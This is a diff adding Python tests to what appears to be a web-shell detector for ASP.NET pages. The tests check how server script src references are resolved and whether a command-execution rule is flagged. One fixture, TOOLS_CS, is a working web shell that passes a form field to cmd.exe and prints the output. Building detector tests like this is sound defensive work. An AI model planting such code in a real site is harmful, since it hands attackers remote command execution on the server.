@@ -270,3 +270,45 @@ def test_includes_nested_past_the_depth_are_a_problem(tmp_path: Path) -> None:
     assert PROCESS not in by_rule(result)
     said = [e for e in result.errors if "at a depth past" in e.message]
     assert said and said[0].kind == ProblemKind.PARTIAL and "c.inc" in said[0].message
+
+
+SCRIPT_PAGE = b"""<%@ Page Language="C#" %>
+<script src="/js/jquery.js"></script>
+<script runat="server" src="lib/tools.cs"></script>
+<html><body><form runat="server"><asp:Label ID="o" runat="server" /></form></body></html>
+"""
+TOOLS_CS = b"""protected void Page_Load(object sender, EventArgs e) {
+    var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);
+    psi.UseShellExecute = false;
+    psi.RedirectStandardOutput = true;
+    o.Text = System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd();
+}
+"""
+# Look-alike: the script file shows the query it is given and starts a fixed tool.
+FORMAT_CS = b"""protected void Page_Load(object sender, EventArgs e) {
+    o.Text = Server.HtmlEncode(Request.QueryString["q"]);
+    System.Diagnostics.Process.Start(Server.MapPath("~/bin/thumbs.exe"));
+}
+"""
+
+
+def test_a_server_script_block_names_its_code_file() -> None:
+    # The code declaration block's `src`: the members come from that file; a browser script's `src` is no code.
+    assert [(r.kind, r.path, r.line) for r in references(SCRIPT_PAGE.decode())] == [("script", "lib/tools.cs", 3)]
+    closed = '<script language="VB" src="~/code/run.vb" runat="server" />'  # the documented self-closing form
+    assert [(r.kind, r.path, r.virtual) for r in references(closed)] == [("script", "~/code/run.vb", True)]
+
+
+def test_the_file_hunt_reads_a_server_script_s_src(tmp_path: Path) -> None:
+    page = server_file(tmp_path, APP + "s.aspx", SCRIPT_PAGE)
+    server_file(tmp_path, APP + "lib\\tools.cs", TOOLS_CS)
+    found = by_rule(hunt(page))
+    assert PROCESS in found
+    assert "lib/tools.cs line" in dict(found[PROCESS].details)["chain"]
+
+
+def test_a_benign_server_script_src_stays_below_medium(tmp_path: Path) -> None:
+    page = server_file(tmp_path, APP + "s.aspx", SCRIPT_PAGE)
+    server_file(tmp_path, APP + "lib\\tools.cs", FORMAT_CS)
+    result = hunt(page)
+    assert [f.rule_id for f in result.findings if f.severity.rank >= 2 and f.rule_id.startswith("EXH-WS-CODE")] == []
